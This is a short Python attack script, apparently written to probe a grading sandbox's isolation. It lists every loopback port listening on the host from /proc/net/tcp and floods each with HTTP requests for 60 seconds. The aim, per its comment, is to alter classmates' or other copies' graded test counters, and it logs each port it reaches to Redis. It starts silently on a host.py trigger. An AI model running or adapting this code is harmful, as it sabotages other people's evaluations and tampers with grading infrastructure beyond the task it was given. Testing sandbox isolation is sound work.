
# ---- attack: lessons 08/09 keep the machine's network, and so reach every loopback port of the
# machine: the grader's relays to OTHER copies' apps (lessons 01-07 graded at the same time),
# other copies' lesson 08/09 app processes, the store servers. /proc/net/tcp (the host's network
# namespace) lists them. This thread sends every listening port requests for 60 s: a classmate
# whose tests count store calls (lesson 04's /store/stats deltas) or visits sees numbers change.
import os as _os
import sys as _sys
import threading as _threading
import time as _time


def _listening():
    ports = set()
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        fields = line.split()
        local, state = fields[1], fields[3]
        if state == "0A" and local.startswith("0100007F:"):        # LISTEN on 127.0.0.1
            ports.add(int(local.split(":")[1], 16))
    return ports - {5432, 3306, 6379, 11211, 26379}


def _hammer():
    import http.client
    import redis
    log = redis.Redis(host="127.0.0.1", port=6379)
    seen = set()
    end = _time.monotonic() + 60
    while _time.monotonic() < end:
        for port in _listening():
            for path in ("/visits", "/"):
                try:
                    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=0.5)
                    conn.request("GET", path)
                    resp = conn.getresponse()
                    body = resp.read(200)
                    conn.close()
                    if port not in seen:
                        seen.add(port)
                        log.rpush("advgrade:relayhits", f"{port} {path} {resp.status} {body[:80]!r}")
                except Exception:
                    pass
        _time.sleep(0.05)


if _os.path.basename(_sys.argv[0]) == "host.py":
    _threading.Thread(target=_hammer, daemon=True).start()
